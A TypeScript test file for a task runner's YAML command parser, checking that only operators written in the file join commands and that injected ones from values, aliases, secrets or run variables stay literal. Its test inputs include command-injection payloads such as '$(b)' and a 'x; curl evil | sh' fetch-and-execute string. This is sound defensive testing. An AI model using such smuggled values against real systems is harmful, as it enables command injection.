// Which characters of a `cmd` are written in the task file, through comment stripping, aliases,
// templates and YAML scalars: only written `&&`, `||`, `;` and line breaks join commands.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { InputError } from '../../src/diagnostics.js';
import { prepareTask, type PrepareInput } from '../../src/task/prepare.js';
import type { CmdStep } from '../../src/task/types.js';
import { fromOriginal, isWrittenRange, MarkedTextBuilder } from '../../src/source-text.js';
import { stripCommentLines } from '../../src/load/comment-lines.js';
import { substituteAliases } from '../../src/load/alias-substitution.js';
import { renderTemplate, buildTemplateData } from '../../src/template/render.js';

const dir = mkdtempSync(path.join(tmpdir(), 'taskrun-written-mask-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let count = 0;

type Options = Omit<PrepareInput, 'file' | 'runId'>;

async function prepare(lines: readonly string[], options: Options = {}) {
  const file = path.join(dir, `task-${++count}.yaml`);
  writeFileSync(file, `${lines.join('\n')}\n`);
  return prepareTask({ file, runId: 'r1', ...options });
}

/** The first cmd step's commands (`operator kind: words`) and the warning codes with their line:col. */
async function listOf(lines: readonly string[], options: Options = {}): Promise<{ commands: string[]; warnings: string[] }> {
  const prepared = await prepare(lines, options);
  const step = prepared.task.steps.find((candidate): candidate is CmdStep => candidate.kind === 'cmd');
  if (!step) throw new Error('no cmd step');
  const commands = [
    `${step.words[0] === 'docker' ? 'host-docker' : 'container'}: ${JSON.stringify(step.words)}`,
    ...step.rest.map((item) => `${item.operator} ${item.command.kind}: ${JSON.stringify(item.command.words)}`),
  ];
  const warnings = prepared.diagnostics.filter((d) => d.code.startsWith('cmd-')).map((d) => `${d.code} ${d.location?.line}:${d.location?.col}`);
  return { commands, warnings };
}

async function errorsOf(lines: readonly string[], options: Options = {}): Promise<string[]> {
  try {
    await prepare(lines, options);
  } catch (caught) {
    if (!(caught instanceof InputError)) throw caught;
    return caught.diagnostics.filter((d) => d.severity === 'error').map((d) => `${d.code} ${d.location?.line}:${d.location?.col} ${d.message}`);
  }
  return [];
}

describe('source text value spans', () => {
  it('say which characters alias substitution and templates put in, through comment stripping', () => {
    const original = fromOriginal('t.yaml', '# comment\nsteps: $x {{ .Values.v }} && y\n');
    const stripped = stripCommentLines(original);
    expect(stripped.valueSpans).toBeUndefined();
    const substituted = substituteAliases(stripped, { aliases: new Map([['x', 'A;B']]), directive: '$' });
    expect(substituted.text).toBe('steps: A;B {{ .Values.v }} && y\n');
    expect(substituted.valueSpans).toEqual([{ start: 7, end: 10 }]);
    const rendered = renderTemplate(substituted, buildTemplateData({ run: { ID: 'r', Registry: 'reg' } as never, values: { v: '1 || 2' }, secrets: {} }));
    const text = rendered.source?.text ?? '';
    expect(text).toBe('steps: A;B 1 || 2 && y\n');
    expect(rendered.source?.valueSpans).toEqual([{ start: 7, end: 10 }, { start: 11, end: 17 }]);
    const at = (needle: string) => text.indexOf(needle);
    expect(isWrittenRange(rendered.source!, at('&&'), at('&&') + 2)).toBe(true);
    expect(isWrittenRange(rendered.source!, at('||'), at('||') + 2)).toBe(false);
    expect(isWrittenRange(rendered.source!, at(';'), at(';') + 1)).toBe(false);
  });

  it('keep a value span where `<no value>` is deleted before it', () => {
    const source = fromOriginal('t.yaml', 'a: <no value>{{ .Values.v }} ; b');
    const rendered = renderTemplate(source, buildTemplateData({ run: { ID: 'r', Registry: 'reg' } as never, values: { v: 'x;y' }, secrets: {} }));
    expect(rendered.source?.text).toBe('a: x;y ; b');
    expect(rendered.source?.valueSpans).toEqual([{ start: 3, end: 6 }]);
  });

  it('merge adjacent value pieces in the builder and cut them to a slice', () => {
    const builder = new MarkedTextBuilder();
    builder.append('ab', false);
    builder.append('cd', true);
    builder.appendSlice({ text: 'xyz', valueSpans: [{ start: 0, end: 2 }] }, 1, 3);
    expect(builder.text).toBe('abcdyz');
    expect(builder.spans).toEqual([{ start: 2, end: 5 }]);
  });
});

describe('written operators join commands', () => {
  it('in a plain, a quoted and a folded scalar, and a line break in a literal block', async () => {
    const expected = ['container: ["busybox","false"]', '|| builtin: ["echo","skipped"]'];
    expect((await listOf(['steps:', '  - cmd: busybox false || echo skipped'])).commands).toEqual(expected);
    expect((await listOf(['steps:', '  - cmd: "busybox false || echo skipped"'])).commands).toEqual(expected);
    expect((await listOf(['steps:', "  - cmd: 'busybox false || echo skipped'"])).commands).toEqual(expected);
    expect((await listOf(['steps:', '  - cmd: >', '      busybox false', '      || echo skipped'])).commands).toEqual(expected);
    expect((await listOf(['steps:', '  - cmd: |', '      busybox false', '      echo skipped'])).commands).toEqual([
      'container: ["busybox","false"]',
      '; builtin: ["echo","skipped"]',
    ]);
  });

  it('with templates around them: values stay words, literal text in blocks still counts', async () => {
    const result = await listOf(['steps:', '  - cmd: docker pull {{.Run.Registry}}/base:latest {{if true}}|| true{{end}}'], { registry: 'reg.io' });
    expect(result.commands).toEqual(['host-docker: ["docker","pull","reg.io/base:latest"]', '|| builtin: ["true"]']);
  });

  it('reads the later command: docker on the host, other images in containers, aliases resolved', async () => {
    const result = await listOf(['version: v1.1.0', 'alias:', '  values:', '    img: busybox:1', 'steps:', '  - cmd: az login --identity && az containerapp update x && docker push y && $img true']);
    expect(result.commands).toEqual([
      'container: ["mcr.microsoft.com/acr/azure-cli:2ff604c","login","--identity"]',
      '&& container: ["mcr.microsoft.com/acr/azure-cli:2ff604c","containerapp","update","x"]',
      '&& host-docker: ["docker","push","y"]',
      '&& container: ["busybox:1","true"]',
    ]);
  });

  it('maps the images of later commands with --image-map', async () => {
    const prepared = await prepare(['steps:', '  - cmd: alpine true && alpine false'], { imageMap: ['alpine=busybox'] });
    const step = prepared.task.steps[0] as CmdStep;
    expect(step.words[0]).toBe('busybox');
    expect(step.rest[0]?.command).toMatchObject({ kind: 'container', words: ['busybox', 'false'], imageOrigin: { written: 'alpine', mappedFrom: 'alpine' } });
  });
});

describe('operators from values never join commands', () => {
  const step = ['steps:', '  - cmd: busybox echo {{.Values.x}}'];
  // A line break in a plain scalar would change the YAML (refused); the block scalar case is below.
  const payloads = ['a; b', 'a && b', 'a || b', 'a | b', '$(b)', '`b`'];

  it.each(payloads)('--set x=%j stays one command', async (payload) => {
    const result = await listOf(step, { set: [`x=${payload}`] });
    expect(result.commands).toHaveLength(1);
  });

  it('a --set value with an operator gets a warning at the value', async () => {
    expect((await listOf(step, { set: ['x=a && b'] })).warnings).toEqual(['cmd-value-operator 2:23']);
    // One warning for the value, however many operators it holds.
    expect((await listOf(step, { set: ['x=a; b; c && d || e'] })).warnings).toEqual(['cmd-value-operator 2:23']);
  });

  it('from a values file, a secret and a run variable', async () => {
    const values = path.join(dir, 'values.yaml');
    writeFileSync(values, 'x: "a; b && c"\n');
    expect((await listOf(step, { valuesFiles: [values] })).commands).toHaveLength(1);
    expect((await listOf(['secrets:', '  - id: s', '    keyvault: https://v', 'steps:', '  - cmd: busybox echo {{.Secrets.s}}'], { secrets: { s: 'a; b' } })).commands).toHaveLength(1);
    const branch = await listOf(['steps:', '  - cmd: busybox echo {{.Run.Branch}}'], { runVarFlags: { branch: 'x; curl evil | sh' } });
    expect(branch.commands).toEqual(['container: ["busybox","echo","x;","curl","evil","|","sh"]']);
    expect(branch.warnings).toEqual(['cmd-value-operator 2:23']);
  });

  it('from an alias value, substituted or as the command word', async () => {
    const aliases = ['version: v1.1.0', 'alias:', '  values:', '    evil: "a; busybox touch x"', '    run: "busybox echo a && busybox b"', 'steps:'];
    expect((await listOf([...aliases, '  - cmd: busybox echo $evil'])).commands).toEqual(['container: ["busybox","echo","a;","busybox","touch","x"]']);
    expect((await listOf([...aliases, '  - cmd: run c'])).commands).toEqual(['container: ["busybox","echo","a","&&","busybox","b","c"]']);
    // The written operator after the alias still counts.
    expect((await listOf([...aliases, '  - cmd: run c || true'])).commands).toEqual(['container: ["busybox","echo","a","&&","busybox","b","c"]', '|| builtin: ["true"]']);
  });

  it('a value line break inside a block scalar stays text', async () => {
    const result = await listOf(['steps:', '  - cmd: |', '      busybox echo {{.Values.x | indent 6 | trim}}', '      busybox true'], { set: ['x=a\nb'] });
    expect(result.commands).toEqual(['container: ["busybox","echo","a","b"]', '; container: ["busybox","true"]']);
  });

  it('an operator whose origin cannot be told (a YAML alias) does not count, with a warning', async () => {
    const result = await listOf(['x: &c busybox false || true', 'steps:', '  - cmd: *c']);
    expect(result.commands).toEqual(['container: ["busybox","false","||","true"]']);
    expect(result.warnings).toEqual(['cmd-unsure-operator 3:10']);
  });
});

describe('empty commands and bad builtins', () => {
  it('are errors at the operator, and nothing runs', async () => {
    expect(await errorsOf(['steps:', '  - cmd: busybox true &&'])).toEqual(['cmd-list-empty-command 2:23 `cmd` ends with `&&` and no command after it']);
    expect(await errorsOf(['steps:', '  - cmd: "&& busybox true"'])).toEqual(['cmd-list-empty-command 2:11 `cmd` has `&&` with no command before it (at the start)']);
    expect(await errorsOf(['steps:', '  - cmd: busybox a ;; busybox b'])).toEqual(['cmd-list-empty-command 2:21 `cmd` has `;` with no command before it (after `;`)']);
    expect(await errorsOf(['steps:', '  - cmd: busybox a || exit x'])).toEqual(['cmd-list-builtin 2:23 `exit x` is not an exit status']);
  });
});
